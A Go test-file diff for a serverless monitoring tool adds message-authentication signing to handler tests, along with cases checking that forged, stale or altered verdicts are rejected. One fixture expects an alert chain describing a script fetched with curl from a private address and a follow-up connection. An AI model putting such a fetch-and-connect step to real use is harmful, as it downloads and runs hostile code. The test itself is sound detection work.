@@ -12,6 +12,9 @@ import (
 	"testing"
 
 	"github.com/faasmon/faasmon/pkg/alert"
+	"github.com/faasmon/faasmon/pkg/fnhttp"
+	"github.com/faasmon/faasmon/pkg/hopauth"
+	"github.com/faasmon/faasmon/pkg/hopauth/hoptest"
 	"github.com/faasmon/faasmon/pkg/verdict"
 )
 
@@ -45,6 +48,7 @@ func TestHandle(t *testing.T) {
 	t.Setenv(alert.EnvResponder, "none")
 	var out bytes.Buffer
 	stdout = &out
+	fnhttp.DefaultHop.Keys = hoptest.Source()
 
 	benign := attack()
 	benign.GraphID, benign.Verdict, benign.Score = "g-0", verdict.Benign, 0.01
@@ -58,17 +62,25 @@ func TestHandle(t *testing.T) {
 		wantCode           int
 		want               string // in the answer
 		wantOut            string // in the stdout sink
+		way                hoptest.Way
 	}{
-		{"health", http.MethodGet, "", "", 200, `"status":"ok"`, ""},
-		{"benign", http.MethodPost, body(t, benign), "200", 200, `"outcome":"benign_dropped"`, ""},
-		{"attack", http.MethodPost, body(t, attack()), "200", 200, `"outcome":"alerted"`, `"chain":"node index.js → curl http://10.62.9.2/p.sh → connect 10.62.9.2:80"`},
-		{"no status header", http.MethodPost, body(t, other), "", 200, `"outcome":"alerted"`, `"container":"beef"`},
-		{"batch", http.MethodPost, "[" + body(t, benign) + "," + body(t, invalid) + "]", "200", 200, `[{"outcome":"benign_dropped"},{"error":"invalid verdict`, ""},
-		{"bad JSON", http.MethodPost, `{"graph_id": `, "200", 400, `decode verdict`, ""},
-		{"invalid verdict", http.MethodPost, body(t, invalid), "200", 400, `invalid verdict`, ""},
-		{"empty body", http.MethodPost, "", "200", 400, `empty body`, ""},
-		{"classify failed", http.MethodPost, `{"error":"faasmon-classify: boom"}`, "500", 200, `"skipped":"classify failed with status 500"`, ""},
-		{"bad status header", http.MethodPost, body(t, attack()), "ok", 400, `X-Function-Status`, ""},
+		// Forged verdicts: none may alert (the stdout sink stays empty).
+		{"unsigned attack", http.MethodPost, body(t, attack()), "200", 401, `not signed`, "", hoptest.Unsigned},
+		{"attack with a bad MAC", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.BadMAC},
+		{"stale attack", http.MethodPost, body(t, attack()), "200", 403, `outside the accepted window`, "", hoptest.Stale},
+		{"attack signed with the retired key", http.MethodPost, body(t, attack()), "200", 403, `unknown key`, "", hoptest.OldKey},
+		{"attack with an added header", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.Altered},
+		{"a graph's MAC on a verdict", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.WrongFor},
+		{"health", http.MethodGet, "", "", 200, `"status":"ok"`, "", ""},
+		{"benign", http.MethodPost, body(t, benign), "200", 200, `"outcome":"benign_dropped"`, "", ""},
+		{"attack", http.MethodPost, body(t, attack()), "200", 200, `"outcome":"alerted"`, `"chain":"node index.js → curl http://10.62.9.2/p.sh → connect 10.62.9.2:80"`, ""},
+		{"no status header", http.MethodPost, body(t, other), "", 200, `"outcome":"alerted"`, `"container":"beef"`, ""},
+		{"batch", http.MethodPost, "[" + body(t, benign) + "," + body(t, invalid) + "]", "200", 200, `[{"outcome":"benign_dropped"},{"error":"invalid verdict`, "", ""},
+		{"bad JSON", http.MethodPost, `{"graph_id": `, "200", 400, `decode verdict`, "", ""},
+		{"invalid verdict", http.MethodPost, body(t, invalid), "200", 400, `invalid verdict`, "", ""},
+		{"empty body", http.MethodPost, "", "200", 400, `empty body`, "", ""},
+		{"classify failed", http.MethodPost, `{"error":"faasmon-classify: boom"}`, "500", 200, `"skipped":"classify failed with status 500"`, "", ""},
+		{"bad status header", http.MethodPost, body(t, attack()), "ok", 400, `X-Function-Status`, "", ""},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -78,6 +90,11 @@ func TestHandle(t *testing.T) {
 				req.Header.Set("X-Function-Status", tc.status)
 			}
 			req.Header.Set("X-Call-Id", "call-"+tc.name)
+			way := tc.way
+			if way == "" {
+				way = hoptest.Good
+			}
+			hoptest.Sign(req.Header, hopauth.KindVerdict, []byte(tc.body), way)
 			rec := httptest.NewRecorder()
 			Handle(rec, req)
 			if rec.Code != tc.wantCode || !strings.Contains(rec.Body.String(), tc.want) {
@@ -152,6 +169,7 @@ func TestOversizeRefusedBeforeDecoding(t *testing.T) {
 	if _, err := processor(); err != nil {
 		t.Fatal(err)
 	}
+	fnhttp.DefaultHop.Keys = hoptest.Source()
 	nodes := tinyNodes(1_000_000)
 	if len(nodes) > maxBodyBytes {
 		t.Fatalf("test body of %d bytes is over the byte limit; it must test the node count", len(nodes))
@@ -169,6 +187,9 @@ func TestOversizeRefusedBeforeDecoding(t *testing.T) {
 		t.Run(c.name, func(t *testing.T) {
 			req := httptest.NewRequest(http.MethodPost, "/", c.body())
 			req.ContentLength = c.length
+			// Signed as classify signs: the node count is checked on
+			// authenticated bodies (the byte limits hold before).
+			hoptest.Sign(req.Header, hopauth.KindVerdict, nodes, hoptest.Good)
 			w := httptest.NewRecorder()
 			runtime.GC()
 			var before, after runtime.MemStats
